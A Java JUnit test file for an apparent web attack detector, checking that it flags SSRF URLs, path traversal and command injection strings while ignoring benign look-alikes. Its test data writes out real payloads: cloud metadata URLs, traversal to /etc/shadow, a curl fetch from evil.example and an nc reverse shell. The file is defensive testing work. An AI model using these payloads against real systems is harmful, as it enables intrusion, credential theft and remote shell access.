package dev.bulwark.runtime.detect;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** SSRF, path traversal and command injection. */
class NetworkAndFileAttacksTest {

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "http://169.254.169.254/latest/api/token     | ssrf.metadata-endpoint",
        "http://2852039166/latest/                   | ssrf.metadata-endpoint",
        "http://[fd00:ec2::254]/latest/              | ssrf.metadata-endpoint",
        "http://metadata.google.internal/            | ssrf.metadata-endpoint",
        "http://127.0.0.1:2375/containers/json       | ssrf.internal-address",
        "http://0177.0.0.1/                          | ssrf.obfuscated-address",
        "http://[::ffff:127.0.0.1]/                  | ssrf.obfuscated-address",
        "https://trusted.example@10.1.2.3/           | ssrf.internal-address",
        "http://10.0.0.1.nip.io/                     | ssrf.obfuscated-address",
        "gopher://mail.example:25/_HELO              | ssrf.dangerous-scheme",
        "jar:https://evil.example/a.jar!/x           | ssrf.dangerous-scheme",
        "http://abc.oastify.com/                     | ssrf.out-of-band-domain",
      })
  void classifiesTheHostOrSchemeOfEveryUrl(String url, String rule) {
    assertThat(Scan.value(url.trim(), AttackClass.SSRF))
        .hasValueSatisfying(d -> assertThat(d.rule()).isEqualTo(rule));
  }

  @Test
  void findsUrlsInsideLargerValues() {
    assertThat(Scan.value("{\"webhook\":\"http://169.254.169.254/x\"}", AttackClass.SSRF))
        .isPresent();
    assertThat(Scan.value("next=http%3A%2F%2F127.0.0.1%2Fadmin", AttackClass.SSRF)).isPresent();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "https://example.com/a?b=c",
        "https://s3.amazonaws.com/bucket/key",
        "http://pre-signed-url-for-response",
        "127.0.0.1",
        "10.0.0.7, 10.0.0.8",
        "2130706433",
        "ftp-archive.example.org",
        "mailto:root@localhost"
      })
  void leavesPublicUrlsAndBareAddressesAlone(String text) {
    assertThat(Scan.value(text, AttackClass.SSRF)).isEmpty();
  }

  @Test
  void reportsTraversalRunsButNotASingleRelativeLinkInMarkup() {
    assertThat(Scan.value("../../../../etc/shadow", AttackClass.PATH_TRAVERSAL))
        .hasValueSatisfying(d -> assertThat(d.confidence()).isGreaterThanOrEqualTo(0.9));
    assertThat(Scan.value("files/..\\..\\..\\boot.ini", AttackClass.PATH_TRAVERSAL)).isPresent();
    assertThat(Scan.value("<a href=\"../\">up</a>", AttackClass.PATH_TRAVERSAL)).isEmpty();
    assertThat(Scan.value("and so on... and on..", AttackClass.PATH_TRAVERSAL)).isEmpty();
  }

  @Test
  void treatsAnyTraversalInARawPathAsAnAttack() {
    Input path = new Input("path", "/api/v1/../../admin", Input.Kind.PATH);
    assertThat(Detectors.defaults().detect(path))
        .anySatisfy(d -> assertThat(d.attackClass()).isEqualTo(AttackClass.PATH_TRAVERSAL));
  }

  @Test
  void decodesDoubleEncodedAndOverlongSlashes() {
    assertThat(Scan.value("%2e%2e%2f%2e%2e%2fetc%2fpasswd", AttackClass.PATH_TRAVERSAL)).isPresent();
    assertThat(Scan.value("..%c0%af..%c0%afetc/passwd", AttackClass.PATH_TRAVERSAL)).isPresent();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "; id",
        "| cat /etc/passwd",
        "`whoami`",
        "$(curl http://evil.example/x)",
        "& type C:\\boot.ini",
        "x;/usr/bin/nc -e sh evil.example 9",
        ";w'h'o'am'i",
        "a${IFS}b",
        "() { :; }; echo vulnerable"
      })
  void findsCommandsWhereAShellStartsOne(String payload) {
    assertThat(Scan.value(payload, AttackClass.COMMAND_INJECTION)).isPresent();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Tom & Jerry; cat lovers",
        "a=1&id=2&type=3",
        "Step 1; find the key. Step 2; open the door",
        "query {\n  id\n  type\n}",
        "rock | pop | jazz",
        "$(document).ready(function() {})",
        "done; sleep well"
      })
  void leavesSeparatorsInOrdinaryTextAlone(String text) {
    assertThat(Scan.value(text, AttackClass.COMMAND_INJECTION)).isEmpty();
  }
}
